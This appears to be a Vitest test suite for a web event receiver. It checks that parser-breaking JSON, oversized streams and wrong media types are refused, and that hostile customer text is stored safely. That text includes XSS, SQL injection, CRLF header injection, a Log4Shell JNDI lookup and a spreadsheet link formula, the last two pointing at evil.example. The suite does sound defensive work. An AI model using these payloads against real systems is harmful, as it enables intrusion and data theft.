import { describe, expect, it } from 'vitest';
import { bytesOf, cancellationEvent, complaintEvent } from '../support/samples.ts';
import { createHarness, receiverUrl } from './receiver-harness.ts';

/** An event's text with one more member in its data, written by hand. */
function withMember(event: unknown, member: string): string {
  return JSON.stringify(event).replace('"data":{', `"data":{${member},`);
}

const nested = (depth: number) => `"x":${'['.repeat(depth)}${']'.repeat(depth)}`;
const keys = (count: number) => `"x":{${Array.from({ length: count }, (_, i) => `"k${i}":0`).join(',')}}`;

describe('FAULTS 50: texts that break parsers', () => {
  const codeOf = async (body: string | Uint8Array) => {
    const { post, store } = createHarness();
    const { status, body: problem } = await post(body);
    expect(store.list(1)).toHaveLength(status === 202 ? 1 : 0);
    return [status, problem.errors?.[0]?.code];
  };
  const event = complaintEvent();

  it.each([
    ['an array 10,000 deep', '['.repeat(10_000) + ']'.repeat(10_000), 'too-deep'],
    ['objects 10,000 deep', '{"a":'.repeat(10_000), 'too-deep'],
    ['10,000 deep inside the data', withMember(event, nested(10_000)), 'too-deep'],
    ['depth 13', withMember(event, nested(11)), 'too-deep'],
    ['100,000 keys', withMember(event, keys(100_000)), 'too-many-keys'],
    ['401 keys', withMember(event, keys(400)), 'too-many-keys'],
    ['the same key twice in the envelope', JSON.stringify(event).replace('{', '{"id":"x",'), 'duplicate-key'],
    ['the same key twice, once escaped', JSON.stringify(event).replace('{', '{"\\u0069d":"x",'), 'duplicate-key'],
    ['the same key twice in the data', withMember(event, '"message":"other"'), 'duplicate-key'],
    ['__proto__ in the envelope', JSON.stringify(event).replace('{', '{"__proto__":{"polluted":1},'), 'forbidden-key'],
    ['__proto__ in the data', withMember(event, '"__proto__":{"polluted":1}'), 'forbidden-key'],
    ['__proto__ escaped', withMember(event, '"\\u005f_proto__":{"polluted":1}'), 'forbidden-key'],
    ['NaN', withMember(event, '"x":NaN'), 'not-json'],
    ['1e999', withMember(event, '"x":1e999'), 'number-range'],
    ['a byte order mark', `\ufeff${JSON.stringify(event)}`, 'not-json'],
    ['nothing', '', 'not-json'],
    ['half a text', JSON.stringify(event).slice(0, -9), 'not-json'],
    ['a string that does not end', '{"a":"\\', 'not-json'],
    ['brackets that close nothing', ']]}}', 'not-json'],
  ])('400: %s', async (_name, body, code) => {
    expect(await codeOf(body)).toEqual([400, code]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it.each(['null', '[]', '"text"', '7'])('400: %s is no event', async (body) => {
    expect((await codeOf(body))[0]).toBe(400);
  });

  it('400: invalid UTF-8', async () => {
    const bytes = bytesOf(event);
    bytes[bytes.indexOf('w'.charCodeAt(0))] = 0xff;
    expect(await codeOf(bytes)).toEqual([400, 'not-utf-8']);
  });

  it('413: numbers that print longer than they were sent', async () => {
    const numbers = (count: number) => withMember(event, `"x":[${Array(count).fill('9e20').join()}]`);
    expect(numbers(3_200).length).toBeLessThan(20_000);
    const { post } = createHarness();
    expect((await post(numbers(3_200))).status).toBe(413);
    expect((await post(numbers(2_500))).status).toBe(202);
  });

  it('202: depth 12 and 400 keys in all are still fine', async () => {
    expect(await codeOf(withMember(event, nested(10)))).toEqual([202, undefined]);
    const own = JSON.stringify(event).match(/"[^"]*":/g)!.length;
    // A date's or a text's inside may look like a key; the widget's sample has none.
    expect((await codeOf(withMember(event, keys(400 - own - 1))))[0]).toBe(202);
  });

  it('202: NUL and half a surrogate pair in the data are stored harmlessly', async () => {
    const { post, store } = createHarness();
    const message = 'before\0after \ud800 end';
    expect((await post(complaintEvent({ data: { message } }))).status).toBe(202);
    expect((store.list(1)[0]?.data as { message: string }).message).toBe(message);
  });
});

describe('FAULTS 49, 51: bodies and their headers', () => {
  const event = complaintEvent();

  it('413: stops reading at the limit, of a stream that never ends', async () => {
    const { receive } = createHarness();
    let pulled = 0;
    let cancelled = false;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        pulled++;
        controller.enqueue(new Uint8Array(1024 * 1024));
      },
      cancel() {
        cancelled = true;
        return new Promise(() => undefined);
      },
    });
    const headers = { 'Content-Type': 'application/json' };
    const request = new Request(receiverUrl, { method: 'POST', headers, body, duplex: 'half' } as RequestInit);
    expect((await receive(request)).status).toBe(413);
    expect(pulled).toBeLessThanOrEqual(6);
    expect(cancelled).toBe(true);
  });

  it('413: does not begin to read what says that it is over the limit', async () => {
    const { post } = createHarness();
    expect((await post(event, { 'Content-Length': '4194305' })).status).toBe(413);
  });

  it('413: holds the event itself to 64 KiB, whatever its attachments weigh', async () => {
    const { post } = createHarness();
    const answer = await post({ ...event, data: { ...event.data, unknown: 'a'.repeat(64 * 1024) } });
    expect([answer.status, answer.body.type]).toEqual([413, 'urn:kroon:problem:too-large']);
  });

  it('408: a body that breaks off is asked for again, and nothing is stored', async () => {
    const { receive, store } = createHarness();
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        controller.error(new Error('cut off'));
      },
    });
    const headers = { 'Content-Type': 'application/json' };
    const request = new Request(receiverUrl, { method: 'POST', headers, body, duplex: 'half' } as RequestInit);
    expect((await receive(request)).status).toBe(408);
    expect(store.list(1)).toEqual([]);
  });

  it.each([
    ['application/json', 202],
    ['Application/JSON; charset="UTF-8"', 202],
    ['application/cloudevents+json', 202],
    ['text/plain;charset=UTF-8', 202],
    ['text/plain; charset=utf-16', 415],
    ['application/x-www-form-urlencoded', 415],
    ['application/json-patch+json', 415],
    ['text/html', 415],
    ['', 415],
    [null, 415],
  ])('takes Content-Type %s with %i', async (type, status) => {
    const { post } = createHarness();
    expect((await post(complaintEvent(), { 'Content-Type': type })).status).toBe(status);
  });

  it.each(['gzip', 'zstd', 'br', 'identity'])('415: refuses Content-Encoding %s', async (encoding) => {
    const { post } = createHarness();
    const answer = await post(complaintEvent(), { 'Content-Encoding': encoding });
    expect([answer.status, answer.body.type]).toEqual([415, 'urn:kroon:problem:media-type']);
  });
});

describe('FAULTS 52: what customers write', () => {
  it.each([
    '<script>alert(1)</script>',
    '\u202egnp.exe',
    '👩‍👩‍👧‍👦 zalgo̷',
    "'; DROP TABLE intake; --",
    'a\r\nBcc: everyone@example.org',
    '=HYPERLINK("https://evil.example")',
    '${jndi:ldap://evil.example/a}',
  ])('is stored verbatim: %j', async (text) => {
    const { post, store } = createHarness();
    const event = complaintEvent({
      data: { message: text, category: 'other', order: text, contract: text, metadata: { [text]: text } },
    });
    const answer = await post(event);
    expect(answer.status).toBe(202);
    expect(store.list(1)[0]?.data).toEqual(event.data);
    expect(JSON.stringify(answer.body)).not.toContain(JSON.stringify(text).slice(1, -1));
  });
});

describe('a cancellation whose envelope parses is never refused for its data', () => {
  const event = cancellationEvent();
  const { declaration: _gone, ...without } = event.data;
  it.each([
    ['no declaration', JSON.stringify({ ...event, data: without }), ['data-invalid']],
    ['data null', JSON.stringify({ ...event, data: null }), ['data-invalid']],
    ['data that is a text', JSON.stringify({ ...event, data: 'I cancel' }), ['data-invalid']],
    ['a megabyte of text', JSON.stringify({ ...event, data: 'a'.repeat(1024 * 1024) }), ['too-large', 'data-invalid']],
    ['depth 30', withMember(event, nested(28)), ['too-deep']],
    ['1,000 keys', withMember(event, keys(1000)), ['too-many-keys']],
    ['a key twice', withMember(event, '"declaration":"first"'), ['duplicate-key']],
    ['__proto__', withMember(event, '"__proto__":{"polluted":1}'), ['forbidden-key']],
    ['1e999', withMember(event, '"x":1e999'), ['number-range']],
    ['a reason for a withdrawal', JSON.stringify({ ...event, data: { ...event.data, act: 'withdrawal', reason: 'x' } }), ['data-invalid']],
  ])('%s: stored, receipted, flagged', async (_name, body, flags) => {
    const { post, store } = createHarness({ ends: () => ({ endsOn: '2026-12-31' }) });
    const answer = await post(body);
    expect(answer.status).toBe(202);
    expect(answer.body.receipt?.['id']).toBe(event.id);
    expect(store.list(1)[0]).toMatchObject({ kind: 'cancellation', flags });
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect((await post(body)).status).toBe(200);
  });
});
